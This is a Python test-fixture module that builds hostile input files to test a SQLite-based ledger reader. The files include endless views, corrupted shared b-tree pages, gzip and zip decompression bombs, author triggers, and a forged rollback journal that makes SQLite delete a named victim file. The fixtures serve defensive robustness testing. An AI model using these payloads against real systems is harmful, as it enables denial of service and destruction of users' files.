# ruff: noqa: S608  (statements made of our own constants)
"""Hostile files: small on disk, but endless or many times larger when read."""

import gzip
import io
import sqlite3
import struct
import zipfile
from pathlib import Path

import numpy as np

COLUMNS = "sequence, round, kind, previous, digest, body"


def _database(path: Path, script: str) -> None:
    connection = sqlite3.connect(path)
    connection.executescript(script)
    connection.close()


def endless_view(path: Path) -> None:
    """A ledger whose table is a view without end; sorting its rows fills the disk."""
    _database(
        path,
        f"""CREATE VIEW coterie_ledger ({COLUMNS}) AS
        WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)
        SELECT i, i, 'skip', '', '', zeroblob(10000) FROM n""",
    )


def generated_column(path: Path) -> None:
    """A table with one row, whose body is generated when it is read."""
    _database(
        path,
        """CREATE TABLE coterie_ledger (sequence, round, kind, previous, digest,
        body BLOB GENERATED ALWAYS AS (zeroblob(800000000)));
        INSERT INTO coterie_ledger VALUES (1, 1, 'skip', '', '')""",
    )


def long_default(path: Path) -> None:
    """Rows that do not store their last column, whose long default is in the schema once."""
    rows = "INSERT INTO coterie_ledger WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 5000) "
    _database(
        path,
        f"""CREATE TABLE coterie_ledger (sequence, round, kind, previous, digest);
        {rows} SELECT i, i, 'skip', '', '' FROM n;
        ALTER TABLE coterie_ledger ADD COLUMN body DEFAULT '{"x" * 400_000}'""",
    )


def virtual_table(path: Path) -> None:
    """A virtual table, which is a module of SQLite."""
    _database(path, "CREATE VIRTUAL TABLE coterie_ledger USING rtree(sequence, a, b, c, d)")


def view_in_disguise(path: Path) -> None:
    """A schema that calls a view a table."""
    endless_view(path)
    connection = sqlite3.connect(path)
    connection.executescript("PRAGMA writable_schema = ON; UPDATE sqlite_schema SET type = 'table'")
    connection.close()


def trigger(path: Path) -> None:
    """A plain table with a program attached to it."""
    _database(
        path,
        f"""CREATE TABLE coterie_ledger ({COLUMNS});
        CREATE TRIGGER t AFTER INSERT ON coterie_ledger BEGIN DELETE FROM coterie_ledger; END""",
    )


def shared_pages(path: Path) -> None:
    """A plain table of five pages that seems to have 64 million rows: an inner page refers to one child 401 times."""
    page, children = 4096, 400
    _database(
        path,
        f"""PRAGMA page_size = {page}; CREATE TABLE coterie_ledger ({COLUMNS});
        INSERT INTO coterie_ledger VALUES (1, 1, 'skip', '', '', zeroblob(3000))""",
    )
    content = bytearray(path.read_bytes())
    (leaf,) = [content[page : 2 * page]]
    depth = 3
    inner = []
    for number in range(3, 3 + depth):
        cells = [struct.pack(">I", number) + b"\x01"] * children
        pointers = [page - 5 * (at + 1) for at in range(children)]
        head = struct.pack(">BHHHBI", 5, 0, children, pointers[-1], 0, number)
        body = bytearray(page)
        body[:12] = head
        body[12 : 12 + 2 * children] = struct.pack(f">{children}H", *pointers)
        for at, cell in zip(pointers, cells, strict=True):
            body[at : at + 5] = cell
        inner.append(bytes(body))
    content[page : 2 * page] = inner[0]
    content += b"".join(inner[1:]) + leaf
    content[28:32] = struct.pack(">I", len(content) // page)
    path.write_bytes(content)


def repeated_gzip(path: Path, line: bytes, size: int) -> None:
    """A text of ``size`` bytes that repeats one line, in two members of a gzip file."""
    part = gzip.compress(line * (size // len(line) // 2), 9, mtime=0)
    path.write_bytes(part + part)


def packed_array(path: Path, name: str, rows: int, *, claimed: int | None = None) -> None:
    """An archive with one array of zeros, about a thousand times smaller; its header may claim more rows."""
    array = io.BytesIO()
    header = {"descr": "<f8", "fortran_order": False, "shape": (claimed or rows,)}
    np.lib.format.write_array_header_1_0(array, header)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(f"{name}.npy", "w") as file:
        file.write(array.getvalue())
        for _ in range(rows // 125_000):
            file.write(bytes(1_000_000))


def journal_of_another_file(database: Path, victim: Path) -> None:
    """Place a rollback journal beside a database that names a file of the user as the journal of several databases.

    SQLite completes the transaction when it opens the database, and deletes the common journal at the end.
    """
    content = bytearray(database.read_bytes())
    content[18:20] = b"\1\1"  # no WAL, as before a run switches it on
    database.write_bytes(content)
    magic, name = bytes.fromhex("d9d505f920a163d7"), str(victim).encode()
    (page,) = struct.unpack(">H", content[16:18])
    header = (magic + struct.pack(">IIIII", 0, 0, len(content) // page, 512, page)).ljust(512, b"\0")
    end = struct.pack(">I", (1 << 30) // page + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    database.with_name(f"{database.name}-journal").write_bytes(header + end)


def trigger_on(database: Path, table: str) -> None:
    """Add a trigger to a database, which runs a statement of its author whenever a row is added."""
    _database(
        database,
        f"""CREATE TABLE trace (row);
        CREATE TRIGGER mine AFTER INSERT ON {table} BEGIN INSERT INTO trace VALUES (1); END""",
    )


def view_of(database: Path, table: str) -> None:
    """Replace a table of a database by a view without end."""
    connection = sqlite3.connect(database)
    columns = [name for _, name, *_ in connection.execute(f"PRAGMA table_info({table})")]
    connection.close()
    numbers = ", ".join("i" for _ in columns)
    _database(
        database,
        f"""DROP TABLE {table};
        CREATE VIEW {table} ({", ".join(columns)}) AS
        WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT {numbers} FROM n""",
    )
